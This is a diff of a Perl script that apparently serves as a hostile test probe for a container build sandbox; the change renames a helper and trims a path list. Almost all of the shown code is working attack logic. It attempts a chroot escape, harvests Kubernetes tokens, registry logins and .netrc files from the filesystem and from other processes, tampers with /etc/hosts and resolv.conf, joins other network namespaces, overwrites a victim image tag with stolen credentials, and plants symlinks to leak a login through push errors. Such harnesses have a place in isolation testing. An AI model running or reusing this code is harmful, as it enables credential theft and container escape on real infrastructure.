@@ -11,7 +11,7 @@ my ($host, $port) = split /:/, $ARGV[0];
 
 sub names { opendir(my $dir, $_[0]) or return; return map { "$_[0]/$_" } grep { !/^\.\.?$/ } readdir $dir }
 sub content { open(my $file, "<", $_[0]) or return ""; local $/; return <$file> // "" }
-sub tell { my ($name, @found) = @_; print "attack $name: ", @found ? "got @found" : "nothing", "\n" }
+sub report { my ($name, @found) = @_; print "attack $name: ", @found ? "got @found" : "nothing", "\n" }
 
 # Files below a place, without following links.
 sub below {
@@ -22,16 +22,16 @@ sub below {
 
 # Leave the root: chroot keeps the working directory, and ".." of what is outside of the root ends at no root.
 mkdir "/tmp/jail"; chdir "/"; chroot "/tmp/jail"; chdir ".." for 1 .. 64; chroot "."; chdir "/";
-tell("root", grep { -e } "/usr/local/bin/rootless-build-guard");
+report("root", grep { -e } "/usr/local/bin/rootless-build-guard");
 
 my @places = ("/run", "/var/run", "/root", "/home", "/etc", "/tmp", "/dev/shm");
 my @files = map { below($_, 12) } @places;
-tell("token", grep { m{serviceaccount/.*token|kubernetes\.io/serviceaccount} && content($_) =~ /^ey/ } @files);
-tell("logins", map { "$_ " . content($_) } grep { m{dockerconfigjson|auth\.json|config\.json|\.netrc}
+report("token", grep { m{serviceaccount/.*token|kubernetes\.io/serviceaccount} && content($_) =~ /^ey/ } @files);
+report("logins", map { "$_ " . content($_) } grep { m{dockerconfigjson|auth\.json|config\.json|\.netrc}
     && content($_) =~ /"auth"|password/ } @files);
-tell("host", grep { -e "$_" } map { ($_, "/host$_") } "/var/lib/kubelet", "/run/containerd/containerd.sock",
-    "/etc/kubernetes", "/etc/cni/net.d", "/dev/vda", "/dev/sda", "/dev/mem");
-tell("volumes", grep { m{/pods/[^/]+/volumes/[^/]+/(store|work)$} } map { names($_) } map { names("$_/volumes") }
+report("host", grep { -e "$_" } map { ($_, "/host$_") } "/var/lib/kubelet", "/run/containerd/containerd.sock",
+    "/etc/kubernetes", "/dev/vda", "/dev/sda", "/dev/mem");
+report("volumes", grep { m{/pods/[^/]+/volumes/[^/]+/(store|work)$} } map { names($_) } map { names("$_/volumes") }
     names("/host/var/lib/kubelet/pods"), names("/var/lib/kubelet/pods"));
 
 # Processes: whoever has a login in his environment, a root that is not this one, or a file of logins open.
@@ -41,16 +41,16 @@ for my $process (grep { m{/\d+$} && $_ ne "/proc/$$" } names("/proc")) {
     push @root, "$process/root" if -e "$process/root/run/build/auth/.dockerconfigjson";
     push @fd, map { "$_ " . readlink } grep { (readlink // "") =~ /dockerconfigjson/ } names("$process/fd");
 }
-tell("environ", @environ);
-tell("roots", @root);
-tell("fds", @fd);
+report("environ", @environ);
+report("roots", @root);
+report("fds", @fd);
 
 # What is shared with the containers that come later.
 # A RUN step that is in its root has files of its own there.
 my $left = -e "/usr/local/bin/rootless-build-guard";
 sub spoil { my $file; return $left && open($file, ">>", $_[0]) && print($file "# hostile\n") }
 spoil("/etc/hosts");
-tell("names", grep { spoil($_) } "/etc/resolv.conf");
+report("names", grep { spoil($_) } "/etc/resolv.conf");
 
 # The network: the plain way, somebody's network namespace (setns is 308), a packet socket, sockets without a path.
 sub reach { socket(my $tcp, 2, 1, 6) or return; local $SIG{ALRM} = sub { die }; my $done;
@@ -63,8 +63,8 @@ for my $process (grep { m{/\d+$} } names("/proc")) {
     open(my $other, "<", "$process/ns/net") or next;
     push @network, "setns" if syscall(308, fileno $other, 0x40000000) == 0 && reach();
 }
-tell("network", @network);
-tell("sockets", content("/proc/net/unix") =~ /(\@\S+)/g);
+report("network", @network);
+report("sockets", content("/proc/net/unix") =~ /(\@\S+)/g);
 
 # Another image's tag, with the login that is in reach, or with none: an image with nothing in it.
 my $login = "/run/build/auth/.dockerconfigjson";
@@ -80,7 +80,7 @@ sub overwrite {
     my @login = -e $login ? "--dest-authfile=$login" : "--dest-no-creds";
     return !system("/usr/bin/skopeo", "copy", "--quiet", "--dest-tls-verify=false", @login, "dir:$place", "docker://$_[0]");
 }
-tell("tag", grep { $left && overwrite($_) } "$host:$port/trials/hostile-victim:1");
+report("tag", grep { $left && overwrite($_) } "$host:$port/trials/hostile-victim:1");
 
 # With the store in reach: push shall read its own login as the list of a layer's parents and quote it in its error.
 # Links stand for the pieces that anybody can guess, so that only the login itself is not found.
@@ -91,7 +91,7 @@ if ($how eq "store" && -d "$store/overlay") {
     unlink names("/var/lib/containers/cache");
     my @layers = grep { -d "$_/diff" && !-e "$_/lower" } names("$store/overlay");
     symlink("x", "$store/overlay/$_") for '{"auths"', qq( {"$host), qq($port"), ' {"auth"';
-    tell("store", grep { symlink($login, "$_/lower") } @layers);
+    report("store", grep { symlink($login, "$_/lower") } @layers);
 }
 # Or it shall read it as a part of the image: whoever stays behind when the step has ended puts it there.
 if ($how eq "image" && !fork) {
